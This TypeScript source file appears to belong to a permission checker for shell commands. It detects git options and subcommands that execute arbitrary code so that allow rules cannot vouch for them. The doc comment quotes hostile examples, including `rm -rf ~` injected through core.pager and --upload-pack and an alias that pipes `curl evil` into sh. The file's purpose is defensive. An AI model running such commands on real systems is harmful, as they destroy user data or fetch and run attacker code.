import {gitConfigWrites} from './git-config-writes.js'
import type {Argv, Script, Unwrapped} from './unwrapped.js'
import {hasWildcard} from './word-shape.js'

/**
 * Git options and subcommands that make git run a command of someone's choosing: an allow rule
 * `exec(git *)` (let alone `exec(git status*)`) must not cover
 * `git -c core.pager='rm -rf ~' status`, `git -c alias.x='!curl evil|sh' x` or
 * `git fetch --upload-pack='rm -rf ~' origin`. Config keys that run commands are many
 * (core.pager, core.fsmonitor, core.sshCommand, credential.helper, filter.*, diff.*.textconv,
 * alias.* with `!`, ...) and grow with git, so any `-c`, `--config-env`, `--exec-path=` (git's
 * own programs from another directory), `-C`, `--git-dir` or `--work-tree` (another
 * repository's config: a project can ship a bare repository whose config runs a command on
 * `git -C evil.git status`), or one of the options below is an `executing-option`: no allow
 * pattern vouches for it and the user is asked. Deny rules see the commands in them (every
 * `-c` value, `!` dropped, is read as shell code; so are the option values).
 *
 * `git config` (other than reading) counts too: it writes what a later `git status` runs, and
 * it is a write of the config file (git-config-writes.ts), which the protected rules deny.
 */
export function gitRuns(args: Argv): Unwrapped | undefined {
  const found: {executing: boolean; scripts: Script[]; commands: Argv[]} = {commands: [], executing: false, scripts: []}
  const at = gitSubcommand(args.words)
  for (let i = 0; i < at; i++) {
    const word = args.words[i]
    if (word === '-c') {
      found.executing = true
      configValue(found, args, ++i)
    } else if (EXECUTING_GLOBAL.test(word)) {
      found.executing = true
    }
  }

  const subcommand = args.words[at]
  if (subcommand !== undefined) subcommandRuns(found, args, subcommand, at + 1)
  const writes = gitConfigWrites(args, at)
  if (!found.executing && found.commands.length === 0 && writes.length === 0) return undefined
  return {
    commands: found.commands,
    hazards: found.executing ? ['executing-option'] : [],
    scripts: found.scripts,
    self: true,
    writes,
  }
}

/** Where git's subcommand is: after its global options and their values. */
export function gitSubcommand(words: readonly string[]): number {
  let i = 0
  for (; i < words.length && words[i].startsWith('-'); i++) {
    if (GLOBAL_VALUE_OPTIONS.has(words[i])) i++
  }

  return i
}

/** Global options that take their value as the next word (when not joined with `=`). */
const GLOBAL_VALUE_OPTIONS = new Set([
  '--config-env',
  '--git-dir',
  '--namespace',
  '--super-prefix',
  '--work-tree',
  '-C',
  '-c',
])
const EXECUTING_GLOBAL = /^(?:(?:-C|--config-env|--git-dir|--work-tree)(?:=|$)|--exec-path=)/
const EXECUTING_LONG = /^--(config|exec|extcmd|open-files-in-pager|receive-pack|template|upload-pack)(?:=([\s\S]*))?$/
/** Per subcommand, its single-letter options that run a command, and whether the value may be the next word. */
const EXECUTING_SHORT: Record<string, Record<string, 'config' | 'joined' | 'next'>> = {
  clone: {c: 'config', u: 'next'},
  difftool: {x: 'next'},
  grep: {O: 'joined'},
  rebase: {x: 'next'},
}

const CONFIG_READS = new Set(['--get', '--get-all', '--get-regexp', '--get-urlmatch', '--list', '-l', 'get', 'list'])

function subcommandRuns(
  found: {executing: boolean; scripts: Script[]; commands: Argv[]},
  args: Argv,
  subcommand: string,
  from: number,
): void {
  const {shapes, words} = args
  if (subcommand === 'config' && !CONFIG_READS.has(words[from])) found.executing = true
  if (subcommand === 'filter-branch') found.executing = true
  if (subcommand === 'bisect' && words[from] === 'run' && from + 1 < words.length) {
    found.commands.push({shapes: shapes.slice(from + 1), words: words.slice(from + 1)})
  }

  if (subcommand === 'submodule') {
    let at = words.indexOf('foreach', from)
    if (at !== -1) {
      while (words[at + 1]?.startsWith('-')) at++
      found.executing = true
      found.scripts.push({literal: !shapes.slice(at + 1).some(hasWildcard), text: words.slice(at + 1).join(' ')})
    }
  }

  const short = EXECUTING_SHORT[subcommand] ?? {}
  for (let j = from; j < words.length; j++) {
    const long = EXECUTING_LONG.exec(words[j])
    if (long) {
      found.executing = true
      const value = long[2] ?? (long[1] === 'template' || long[1] === 'open-files-in-pager' ? undefined : words[++j])
      if (long[1] === 'config') configValue(found, args, j, value)
      else if (value !== undefined && long[1] !== 'template')
        found.scripts.push({literal: !hasWildcard(shapes[j]), text: value})
      continue
    }

    const letter = /^-[^-]/.test(words[j]) ? [...words[j].slice(1)].find((char) => char in short) : undefined
    if (letter === undefined) continue
    found.executing = true
    const joined = words[j].slice(words[j].indexOf(letter) + 1)
    const value = joined || (short[letter] === 'joined' ? undefined : words[++j])
    if (value === undefined) continue
    if (short[letter] === 'config') configValue(found, args, j, value)
    else found.scripts.push({literal: !hasWildcard(shapes[j]), text: value})
  }
}

/** A `key=value` config setting: the value, a leading `!` dropped (aliases), read as shell code. */
function configValue(found: {scripts: Script[]}, args: Argv, at: number, setting = args.words[at]): void {
  if (setting === undefined || !setting.includes('=')) return
  const value = setting.slice(setting.indexOf('=') + 1).replace(/^!/, '')
  found.scripts.push({literal: !hasWildcard(args.shapes[at]), text: value})
}
